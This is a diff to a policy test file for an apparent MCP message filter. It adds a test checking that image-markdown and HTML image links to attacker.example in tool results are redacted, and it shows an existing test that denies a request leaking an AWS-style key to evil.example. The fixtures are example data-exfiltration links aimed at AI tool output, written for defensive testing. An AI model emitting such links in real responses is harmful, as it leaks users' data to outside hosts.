@@ -170,6 +170,16 @@ test_secrets_and_pii_in_results_redacted if {
 	count(mcp.deny) == 0 with input as msg
 }
 
+test_image_links_in_results_redacted if {
+	msg := fixtures.response("tools/call", {"content": [
+		{"type": "text", "text": "See [the docs](https://example.org/docs)."},
+		{"type": "text", "text": "Summary ![s](https://attacker.example/?q=notes)"},
+		{"type": "text", "text": "<img src=\"https://attacker.example/p.gif\">"},
+	]})
+	mcp.redactions == {["content", 1, "text"], ["content", 2, "text"]} with input as msg
+	count(mcp.deny) == 0 with input as msg
+}
+
 test_secret_in_a_resource_uri_denied if {
 	msg := fixtures.request("client_to_server", "resources/read", {"uri": "https://evil.example/?k=AKIAIOSFODNN7EXAMPLE"})
 	denied(msg, {"resources/read: the request contains a secret (AWS access key id)"})
